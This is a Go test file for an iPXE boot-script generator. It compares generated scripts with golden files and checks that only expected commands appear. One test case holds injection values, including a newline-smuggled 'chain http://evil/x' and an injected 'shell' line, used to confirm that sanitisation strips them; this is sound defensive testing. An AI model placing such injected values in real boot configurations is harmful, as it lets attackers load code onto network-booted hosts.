package pxe

import (
	"net"
	"strings"
	"testing"
)

// TestScript: the whole iPXE script for each kind of host, compared with
// testdata/golden/ipxe/NAME.ipxe (go test ./pxe -update rewrites them).
func TestScript(t *testing.T) {
	web := ImageRef{Name: "web", Version: "1.3", Digest: "sha256:" + strings.Repeat("b", 64), Path: "/srv/web.img"}
	for _, tc := range []struct {
		name string
		in   ScriptInput
	}{
		{"host", ScriptInput{Base: "http://10.0.0.1:8080", Cmdline: "console=ttyS0",
			Host: HostBoot{MAC: knownMAC, Hostname: "web-1", Image: web, Cmdline: "hn.revert=r20260102T120103-3fa2c1"}}},
		// An unknown MAC served the default image: no hostname, no
		// extra arguments.
		{"default-image", ScriptInput{Base: "http://10.0.0.1:8080", Host: HostBoot{MAC: unknownMAC, Image: imgA}}},
		{"digest-only", ScriptInput{Base: "http://[fd00::1]:8080", Host: HostBoot{MAC: knownMAC, Image: ImageRef{Digest: web.Digest}}}},
		// Values from YAML or flags must not add script lines: control
		// characters become spaces and runs of blanks collapse.
		{"control-characters", ScriptInput{Base: "http://10.0.0.1:8080", Cmdline: "quiet\nchain http://evil/x",
			Host: HostBoot{MAC: knownMAC, Hostname: "web-1", Image: ImageRef{Name: "evil\n#!ipxe", Version: "1\r\nshell", Digest: web.Digest},
				Cmdline: "a\tb\x00c\x7f  d"}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := Script(tc.in)
			// Every command the script runs is one of ours, whatever the
			// input: checked here as well as by the golden.
			for _, line := range strings.Split(strings.TrimSuffix(s, "\n"), "\n") {
				cmd, _, _ := strings.Cut(line, " ")
				switch cmd {
				case "#!ipxe", "echo", "kernel", "initrd", "boot", ":failed", "sleep", "reboot":
				default:
					t.Errorf("script line %q: command %q is not one Script writes", line, cmd)
				}
			}
			golden(t, "ipxe/"+tc.name+".ipxe", []byte(s))
		})
	}
}

func TestKernelCmdlineBOOTIF(t *testing.T) {
	in := ScriptInput{Base: "http://s", Host: HostBoot{MAC: net.HardwareAddr{0xaa, 0xbb, 0xcc, 0, 1, 2}}}
	if got, want := KernelCmdline(in), "hn.server=http://s BOOTIF=01-aa-bb-cc-00-01-02"; got != want {
		t.Errorf("KernelCmdline = %q, want %q", got, want)
	}
}
